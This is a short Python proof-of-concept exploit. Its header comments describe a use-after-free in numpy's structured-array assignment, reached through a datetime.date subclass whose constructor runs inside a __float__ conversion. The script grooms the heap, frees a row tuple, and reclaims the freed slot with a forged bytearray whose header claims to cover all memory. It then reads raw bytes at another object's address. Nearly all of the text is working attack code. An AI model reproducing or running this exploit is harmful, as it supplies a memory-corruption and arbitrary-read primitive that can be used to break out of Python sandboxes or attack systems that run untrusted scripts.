# source: CPython 3.11 Modules/_datetimemodule.c new_date_subclass_ex/new_datetime_subclass_fold_ex (date/datetime arithmetic on a subclass calls the subclass: type(self)(y, m, d, ...)); numpy 1.24 VOID_setitem reads row tuple items borrowed
# family: library code calling back into the script from inside a conversion: arithmetic self.u + self.w (date subclass + timedelta) in __float__ runs the subclass's __init__
# goal: __float__ runs script code that frees the row tuple and its object field, reclaimed by a forged bytearray over all memory; reads 16 bytes at another object's address (out-of-bounds memory read)
import numpy as np
import pandas as pd
import datetime

keep = []
hold = []


def addr_of_type(t):
    y = hash(t) % (1 << 64)
    return ((y << 4) | (y >> 60)) % (1 << 64)


BA = addr_of_type(bytearray)


def q(v):
    return (v % (1 << 64)).to_bytes(8, "little")


def boom(*a, **k):
    junk = [(n, n + 1) for n in range(300)]
    hold[0][0] = 0
    payload = q(1 << 40) + q(BA) + q(1 << 60) + q((1 << 60) + 1) + q(0) + q(0) + q(0)
    payload = payload + bytes(479 - len(payload))
    for n in range(8):
        keep.append(bytearray(payload))
    junk.clear()
    return 1.0




class D(datetime.date):
    def __init__(self, *a):
        super().__init__()
        if len(hold) > 0 and len(keep) == 0:
            boom()


class A:
    def __init__(self, u, w):
        self.u = u
        self.w = w

    def __float__(self):
        return float((self.u + self.w).day)


a0 = A(D(2020, 1, 2), datetime.timedelta(days=1))
lst = [(a0, bytes(447))]
hold.append(lst)
arr = np.array(lst, dtype=[("x", "f8"), ("y", "O")])
fake = arr["y"][0]
print("fake object:", type(fake), len(fake))
o = object()
r = repr(o)
a = int(r.split("at ")[1][:-1], 16)
print("read at", hex(a), ":", bytes(fake[a:a + 16]).hex(), "type(object) at", hex(addr_of_type(object)))
